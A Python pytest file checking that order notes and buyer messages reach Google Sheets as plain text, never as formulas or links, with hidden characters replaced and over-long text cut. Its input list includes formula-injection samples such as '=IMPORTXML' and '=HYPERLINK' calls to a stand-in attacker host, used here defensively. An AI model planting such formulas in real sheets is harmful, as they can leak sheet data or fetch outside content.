"""Other people's words in our cells: text as it is, never a formula, never a link, never longer than a cell."""

from dataclasses import replace

import pytest

from service.core.columns import COLUMNS
from service.core.filters import RowFilter
from service.core.profiles import ChosenColumn
from service.core.roles import Role
from service.flows import ingest
from service.store import orders
from service.store.orders import NoteRow

#: What somebody wrote, and no cell may make anything else of it.
WORDS = [
    '=IMPORTXML("https://evil.example","//a")',
    '=HYPERLINK("https://evil.example","click")',
    "+1 for plastic-free",
    "@x",
    "-2",
    "'quoted",
    "example.com",
    "https://evil.example/?q=1",
    "name@shop.example",
    "gift 🎁👩‍👩‍👧",
    "شكرا جزيلا",
    "two\nlines",
    "000123",
    "1/2/2026",
    "TRUE",
]
BELL = "bell\x07"  # a character that no sheet shows


@pytest.fixture
def noted(rig, paper):
    """One order per word, the word in its note."""
    placed = rig.place(len(WORDS), kind="SAMPLE")
    rig.settle()
    rig.clock.advance(60)
    return dict(zip(placed, WORDS, strict=True))


def write_note(rig, order_id, text):
    row = NoteRow(rig.shop.id, order_id, "", text, True, "", ["", "", ""])
    with rig.services.store.write() as tx:
        orders.write_note(tx, row, written_by="m", now=rig.clock.now())
        ingest.touch(rig.services, tx, account_id=rig.account_id, shop_id=rig.shop.id, order_id=order_id)


def cells_of(paper, header):
    """Order id → cell in Google's own terms."""
    fields = (
        "sheets(properties.title,data(rowData(values(userEnteredValue,hyperlink,textFormatRuns,userEnteredFormat))))"
    )
    (tab,) = [one for one in paper.look(fields)["sheets"] if one["properties"]["title"] == paper.tab]
    at = paper.column(header)
    lines = [line.get("values", []) for line in tab["data"][0]["rowData"][1:]]
    return {
        line[0]["userEnteredValue"]["stringValue"]: line[at] for line in lines if line and "userEnteredValue" in line[0]
    }


def test_words_written_later_stand_as_they_are(rig, paper, noted):
    """Updates of existing cells: sent as strings, links switched off where Google would make one."""
    for order_id, words in noted.items():
        write_note(rig, order_id, words)
    rig.settle()
    found = cells_of(paper, "Note")
    for order_id, words in noted.items():
        assert found[order_id]["userEnteredValue"] == {"stringValue": words}
        assert "hyperlink" not in found[order_id], words
    paper.assert_right()


def test_words_that_come_with_the_order_stand_as_they_are(rig):
    """Rows as they are inserted: what the buyer wrote is text in the sheet of the people who may read it."""
    wanted = {rig.place(1, overrides={"buyer_message": words})[0]: words for words in WORDS}
    profile = with_columns(rig, "order_id", "buyer_message")
    paper = rig.bound(profile, audience=Role.SUPPORT)
    paper.tab = profile.name
    found = cells_of(paper, profile.columns[1].header)
    for order_id, words in wanted.items():
        assert found[order_id]["userEnteredValue"] == {"stringValue": words}
        assert "hyperlink" not in found[order_id], words


def test_characters_that_no_sheet_shows_are_replaced(rig, paper):
    (order_id,) = rig.place(1, kind="SAMPLE")
    write_note(rig, order_id, BELL)
    rig.settle()
    assert {row["Note"] for row in paper.rows()} == {"bell\ufffd"}
    assert rig.dirty(paper) == []


def test_text_too_long_for_a_cell_is_cut_and_says_so(rig, paper):
    """50,001 characters: Google would refuse the whole batch."""
    (order_id,) = rig.place(1, kind="SAMPLE")
    rig.settle()
    rig.clock.advance(60)
    write_note(rig, order_id, "x" * 50_001)
    rig.settle()
    (note,) = {row["Note"] for row in paper.rows()}
    assert len(note) <= 50_000
    assert note.endswith("… [cut]")
    assert rig.dirty(paper) == []


def test_many_long_texts_are_sent_in_several_writes(rig, paper):
    """One request stays under what Google advises; the rest follows in the next."""
    placed = rig.place(60, kind="SAMPLE")
    rig.settle()
    rig.clock.advance(60)
    for order_id in placed:
        write_note(rig, order_id, "long " * 9_000)
    rig.calls()
    rig.settle()
    assert rig.calls()[1] == 3
    assert {len(row["Note"]) for row in paper.rows()} == {44_999 + 1}
    assert rig.dirty(paper) == []


def with_columns(rig, *keys):
    """A profile of these columns, one row per order, every order in it."""
    base = rig.preset("accountant", Role.SUPPORT)
    columns = tuple(ChosenColumn(key, COLUMNS[key].header) for key in keys)
    return replace(base, name="Words", columns=columns, row_filter=RowFilter(), sort=())
